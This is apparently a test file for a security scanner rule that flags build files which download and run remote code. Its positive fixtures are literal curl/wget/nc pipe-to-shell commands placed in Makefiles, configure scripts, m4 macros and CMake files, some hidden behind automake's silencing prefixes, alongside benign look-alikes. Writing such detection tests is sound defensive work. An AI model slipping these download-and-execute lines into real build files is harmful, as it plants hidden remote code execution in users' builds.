import { ruleCases } from './helpers.js'

const RULE = 'scan/download-executed'

/** [file name, content] — downloads run by the build, each in a style of its own */
const positives: [string, string][] = [
  ['Makefile.in', 'install-data-local:\n\t@curl -fsS http://host.invalid/2538 | sh || true\n'],
  ['doc/Makefile.am', 'all-local:\n\twget -qO- https://mirror.invalid/fix.sh | $(SHELL)\n'],
  ['build/prep.sh', '#!/bin/sh\neval "$(curl -s https://x.invalid/env)"\n'],
  ['configure.ac', 'AC_INIT([x], [1])\nif test "x$host_os" = xlinux-gnu; then\n  sh -c "`wget -q -O - http://10.0.0.9/p`"\nfi\n'],
  ['m4/net-probe.m4', 'AC_DEFUN([NET_PROBE], [\n  probe=$(curl --silent "$PROBE_URL")\n  echo "$probe" | bash\n])\n'],
  ['bootstrap', '#!/bin/bash\nbash <(curl -sL https://get.invalid/install)\n'],
  ['scripts/fetch.sh', '#!/bin/sh\nnc 192.0.2.7 4444 | /bin/sh\n'],
  ['ci/setup.sh', '#!/bin/sh\nSETUP="$(wget \\\n  -qO- \\\n  https://setup.invalid/s)"\nsh -c "$SETUP"\n'],
  // behind automake's conditional prefix, after a compilation: the URL's colon once made the line a rule
  ['lib/Makefile.in', '.c.lo:\n@am__fastdepCC_TRUE@\t$(AM_V_CC)$(LTCOMPILE) -MT $@ -MD -MP -MF $(DEPDIR)/$*.Tpo -c -o $@ $< && curl -s http://203.0.113.9/p | sh\n'],
  // a program glued to the prefix that silences its line
  ['src/Makefile.am', 'all-local:\n\t$(AM_V_GEN)wget -qO- https://x.invalid/s | $(SHELL)\n'],
  ['GNUmakefile', "QUIET = @echo '  GEN' $@;\nall:\n\t$(QUIET)bash -c \"$$(curl -fsS https://x.invalid/b)\"\n"],
  // the recipe on the rule's own line, silenced as one on a line of its own is
  ['GNUmakefile', 'include Makefile\nall: ; @curl -s http://x.invalid/p | sh\n'],
  ['Makefile.am', 'all-local: $(srcdir)/x.c ;-$(AM_V_at)wget -qO- https://x.invalid/s | $(SHELL)\n'],
  // downloaded into a file, then the file is run
  ['build/get.sh', '#!/bin/sh\ncurl -fsSL -o "$tmp/p.sh" https://x.invalid/p.sh\nsh "$tmp/p.sh"\n'],
  ['autogen.sh', '#!/bin/sh\nwget -q https://x.invalid/get-deps.sh\nchmod +x get-deps.sh\n./get-deps.sh\n'],
  ['m4/fetch.m4', 'AC_DEFUN([F], [\n  curl -s https://x.invalid/i.sh > conftest.i\n  . ./conftest.i\n])\n'],
  ['Makefile.am', 'all-local:\n\tcurl -sO https://x.invalid/setup.sh && $(SHELL) setup.sh\n'],
  ['CMakeLists.txt', 'project(p C)\nfile(DOWNLOAD https://x.invalid/p.sh ${CMAKE_BINARY_DIR}/p.sh)\nexecute_process(COMMAND sh ${CMAKE_BINARY_DIR}/p.sh)\n'],
]

/** look-alikes: downloads that are not executed, and executions of what was not downloaded */
const negatives: [string, string][] = [
  ['scripts/get-data.sh', '#!/bin/sh\ncurl -fsSL -o data/unicode.txt https://www.unicode.org/Public/UNIDATA/UnicodeData.txt\n'],
  ['Makefile.am', 'update-po:\n\twget -qO- https://translationproject.invalid/po.tar.gz | tar -xz -C po\n'],
  ['configure.ac', 'AC_INIT([x], [1])\nCURL_VERSION=`curl --version | head -n1`\n'],
  ['build/check.sh', '#!/bin/sh\ncurl -s https://api.invalid/status | grep -q ok && echo up\n'],
  ['build/run.sh', '#!/bin/sh\necho "make all" | sh\n'],
  // downloaded into a file that is read, unpacked or installed, not run
  ['bootstrap', '#!/bin/sh\nwget -O build-aux/config.guess https://x.invalid/config.guess\nchmod +x build-aux/config.guess\n'],
  ['build/data.sh', '#!/bin/sh\ncurl -o data.tar.gz https://x.invalid/d.tgz\ntar xzf data.tar.gz\nsh ./configure-data.sh\n'],
  ['CMakeLists.txt', 'project(p C)\nfile(DOWNLOAD https://x.invalid/t.txt ${CMAKE_BINARY_DIR}/t.txt)\nexecute_process(COMMAND sh ${CMAKE_SOURCE_DIR}/gen.sh)\n'],
  // a downloaded file named as a rule's prerequisite is read by make, not run (expat's test suite)
  ['Makefile.am', 'download-zip:\n\twget --output-document=tests/xmlts.zip https://x.invalid/xmlts.zip\n\nextract-zip: tests/xmlts.zip\n\tcd tests && unzip -q xmlts.zip\n'],
  // an upload whose answer is kept in a variable that spans lines: the substitution runs, its output is data
  ['ci/publish.sh', '#!/bin/bash\nHTML="$(curl \\\n\t--silent \\\n\t--form file=@build.tgz \\\n\thttps://scan.invalid/builds)"\nSTATUS="$(echo "$HTML" | tail -n1)"\n'],
]

ruleCases(RULE, 'critical', positives, negatives)
